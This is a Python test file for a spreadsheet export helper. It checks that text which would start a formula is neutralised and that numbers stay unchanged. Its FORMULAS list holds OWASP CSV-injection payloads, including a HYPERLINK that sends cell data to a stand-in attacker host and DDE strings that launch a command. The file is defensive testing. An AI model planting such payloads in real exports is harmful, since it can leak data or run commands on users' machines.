"""Downloads: text a spreadsheet would run as a formula comes out inert, numbers as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from indicators.spreadsheets import csv_writer, safe_cell, xlsx_safe

# OWASP's examples of CSV injection, one for each character that starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def written(*rows: list[object], **options) -> str:
    out = io.StringIO()
    csv_writer(out, **options).writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_a_formula_gets_a_quote_before_it(text):
    assert safe_cell(text) == f"'{text}"
    assert list(csv.reader(io.StringIO(written([text]), newline=""))) == [[f"'{text}"]]


def test_text_that_looks_like_a_negative_number_is_still_text_and_neutralised():
    # We cannot tell "-5" from "-5+cmd|..." without parsing formulas: text is text.
    assert safe_cell("-5") == "'-5"
    assert written(["-5"]) == "'-5\n"


def test_numbers_are_written_as_numbers_and_never_changed():
    assert [safe_cell(v) for v in (-5, -1.5, Decimal("-5"))] == [-5, -1.5, Decimal("-5")]
    assert written([-5, -1.5, Decimal("-5"), Decimal("-0.25")]) == "-5,-1.5,-5,-0.25\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (Decimal("100"), "100"),
        (Decimal("1E+2"), "100"),
        (Decimal("7.5000000000"), "7.5"),
        (Decimal("0E-10"), "0"),
        (Decimal("1E-7"), "0.0000001"),
        (Decimal("12345678901234567890.1234567890"), "12345678901234567890.123456789"),
        (Decimal("-5.50"), "-5.5"),
    ],
)
def test_decimals_are_written_in_plain_notation(value, text):
    assert written([value]) == f"{text}\n"


def test_ordinary_text_and_empty_cells_are_left_alone():
    assert safe_cell(None) is None
    assert safe_cell("Remittance costs = 3%") == "Remittance costs = 3%"
    assert safe_cell("") == ""
    assert written(["Kenya", None, "", "a, b"]) == 'Kenya,,,"a, b"\n'


def test_the_writer_keeps_csv_options_and_ends_lines_in_a_newline_unless_told():
    assert written(["a", "b"], delimiter=";") == "a;b\n"
    assert written(["a"], lineterminator="\r\n") == "a\r\n"


def test_writerow_returns_what_the_output_returned_for_streaming_responses():
    class Echo:
        def write(self, value: str) -> str:
            return value

    assert csv_writer(Echo()).writerow(["=1+2", 3]) == "'=1+2,3\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_keeps_formula_text_as_inert_text(text):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([xlsx_safe(text), xlsx_safe(None), xlsx_safe(Decimal("-5")), xlsx_safe(-5)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    cells = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        (f"'{text}".replace("\r", "\n"), "s"),  # XML reads a carriage return as a line feed
        (None, "n"),
        (-5, "n"),
        (-5, "n"),
    ]


def test_control_characters_a_workbook_cannot_hold_are_dropped_before_neutralising():
    assert xlsx_safe("Kenya\x0b") == "Kenya"
    assert xlsx_safe("\x07=1+2") == "'=1+2"
    assert xlsx_safe("line one\nline two\ttab") == "line one\nline two\ttab"
